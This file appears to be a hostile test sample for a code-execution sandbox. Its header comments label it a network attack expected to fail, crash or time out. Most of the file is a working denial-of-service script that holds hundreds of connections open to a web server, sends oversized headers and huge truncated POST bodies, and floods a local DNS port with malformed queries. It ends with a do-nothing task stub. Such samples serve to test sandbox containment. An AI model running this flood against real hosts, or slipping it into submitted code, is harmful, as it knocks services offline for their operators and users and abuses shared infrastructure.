# attack: floods who answers from a recording: connections that say nothing, half requests, names by the thousand
# kind: network
# task: plain
# official: fail|crash|timeout
# strict: fail
# limit: 20
# expect: it costs what the sample may cost, and nobody else notices
import socket
import threading

PLACE = ("203.0.113.10", 80)
kept = []


def connect():
    for number in range(400):
        try:
            link = socket.create_connection(PLACE, timeout=1)
            kept.append(link)
            if number % 3 == 1:
                link.sendall(b"GET / HTTP/1.1\r\nHost: " + b"x" * 200000)
            if number % 3 == 2:
                link.sendall(b"POST / HTTP/1.1\r\nHost: site.test\r\nContent-Length: 16000000\r\n\r\n" + b"x" * 9000000)
        except OSError:
            pass


def ask_names():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as names:
        for number in range(20000):
            try:
                names.sendto(b"\0\1\1\0\0\1\0\0\0\0\0\0" + b"\x3f" + bytes(number % 300), ("127.0.0.1", 53))
            except OSError:
                pass


threads = [threading.Thread(target=connect), threading.Thread(target=connect), threading.Thread(target=ask_names)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()


def task_func(n):
    return None
